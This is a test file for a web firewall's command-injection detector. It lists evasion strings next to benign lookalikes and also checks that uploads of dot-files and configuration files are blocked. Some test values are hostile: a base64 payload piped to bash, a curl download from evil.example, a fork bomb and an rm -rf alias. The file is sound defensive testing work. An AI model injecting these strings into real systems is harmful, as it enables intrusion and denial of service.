import { expect } from 'chai'
import { detectCmdi } from '../../../waf/rules/cmdi.js'
import { Waf } from '../../../waf/waf.js'
import { head } from '../corpus/request-builder.js'

describe('detectCmdi by class of evasion', () => {
  const cases: readonly [string, string, boolean][] = [
    ['a prefix runs the next command', 'x; nice -n 5 uname -a', true],
    ['a prefix opening a value, with a command line after it', 'nohup netstat', true],
    ['a prefix before an ordinary word', 'time for lunch', false],
    ['a pipe into a shell', 'echo aWQ= | base64 -d | bash', true],
    ['a pipe into a text filter', 'dmesg output | grep usb', false],
    ['a here-string', 'x;`rev<<<imaohw`', false],
    ['a here-string feeding a command', 'x;`bash<<<uname`', true],
    ['process substitution', 'diff <(lsmod) b', true],
    ['a shell escape from an editor', 'x +!uname', true],
    ['a shebang in prose', '#!/bin/sh starts a script', false],
    ['an interpreter handed a command line', 'bash -c id', true],
    ['a prefixed interpreter handed a command line', "nohup zsh -c 'uname -a'", true],
    ['a Windows shell handed a command line', 'cmd /c ver', true],
    ['an interpreter named in prose', 'bash is a shell', false],
    ['process substitution of a filter', 'x >(base64)', true],
    ['an unset variable before a command', 'a;$x curl -o /tmp/a evil.example', true],
    ['a backslash skipping aliases', '\\whoami', true],
    ['a LaTeX macro', '\\section{intro}', false],
    ['a lone braced variable', '${shell}', true],
    ['a braced variable in text', '${HOME}/projects', false],
    ['a directory-stack expansion', '~7', true],
    ['a lone tilde', '~', false],
    ['a bracket glob in a system path', '/s[b]in/ifconfig', true],
    ['an SMTP command after a line break', '\r\nrcpt to:<root@localhost>', true],
    ['an IMAP command after a line break', '\r\nx9 fetch 1:* (body[])', true],
    ['a POP3 command after a line break', 'ok\ndele 4', true],
    ['a line of prose after a line break', 'hi,\nuser feedback follows', false],
    ['quotes between the letters of a command', "ca''t /tmp/x", true],
    ['a caret inside a command', 'x & who^ami', true],
    ['a variable between the letters of a command', 'x;wh${z}oami', true],
    ['a contraction that spells a two-letter command', "i'd like it", false],
    ['a contraction in prose', "rock'n'roll", false],
    ['a PowerShell alias after a separator', 'x;gci c:\\users', true],
    ['a PowerShell cmdlet after a separator', 'x | get-content secret.txt', true],
    ['an alias definition', "alias cd='rm -rf'", true],
    ['ANSI-C quoting spelling a word', "x;$'\\x6c\\x73'", true],
    ['history expansion with a modifier', '!-1:p', true],
    ['an exclamation', '!!', false],
    ['a registry query', 'x & reg query hkcu', true],
    ['a glob in a command under /usr/bin', 'x;/usr/bin/unam?', true],
    ['a line continuation inside a command', 'x;una\\\nme -a', true],
    ['PowerShell options before -command', 'pwsh -nop -w hidden -command x', true],
    ['the shell itself as a variable', 'x;$0 -c id', true],
    ['a program run from a writable folder', 'x; /dev/shm/k -d', true],
    ['a program run from the working directory', 'x|./a.out', true],
    ['a relative script named in prose', 'see below; ./configure is a script', false],
    ['a versioned interpreter', ';python3.12 -c 1', true],
    ['special parameters inside a word', ';un$@am$*e -a', true],
    ['an unset variable glued to a command', ';uname$z -a', true],
    ['arithmetic expansion', 'n=$[1+1]', true],
    ['a parameter-expansion operator', 'p=${home%/*}', true],
    ['a template placeholder', 'Hello ${name}!', false],
    ['a bracket glob in a system path', 'f=/e[t]c/host[s]', true],
    ['a question-mark glob in a system path', 'run /usr/bin/unam?', true],
    ['a glob in a file pattern', 'files *.{ts,js} in src/', false],
    ['brace expansion spelling a command', '{un,}ame', true],
    ['brace expansion with a command', 'x {uname,-a}', true],
    ['a self-calling function in the background', 'bomb(){ bomb|bomb& };bomb', true],
    ['a function in a code sample', 'greet(){ echo hi }', false],
    ['a variable assigned and run', 'x=uname&&$x -a', true],
    ['prices after semicolons', 'tea;$3 coffee;$4', false],
    ['an SQLite dot-command', '1;.system id', true],
    ['tilde expansion alone', '~-', true],
    ['history expansion alone', '!-2', true],
    ['an exclamation in prose', 'wow!!', false],
    ['a command name glued to a separator', 'netstat;x', true],
  ]
  for (const [label, value, attack] of cases) {
    it(`${attack ? 'flags' : 'passes'} ${label}: ${JSON.stringify(value)}`, () => {
      expect(detectCmdi(value, true)).to.equal(attack)
    })
  }

  it('blocks an uploaded dot-file or server configuration file, in a header and in a multipart form', () => {
    const waf = new Waf({ mode: 'strict' })
    const upload = (name: string) => waf.checkHead(head('PUT', '/files', ['X-Filename', name]))?.ruleId ?? null
    expect(['.boto', 'settings.py ', 'config.yaml', 'report.pdf', 'photo.config.png'].map(upload)).to.deep.equal([
      'cmdi',
      'cmdi',
      'cmdi',
      null,
      null,
    ])
    const body = Buffer.from(
      '--b\r\nContent-Disposition: form-data; name="f"; filename=".boto"\r\nContent-Type: text/plain\r\n\r\nx\r\n--b--\r\n',
    )
    expect(waf.checkBody(head('POST', '/up'), body, 'multipart/form-data; boundary=b')?.ruleId).to.equal('cmdi')
  })
})
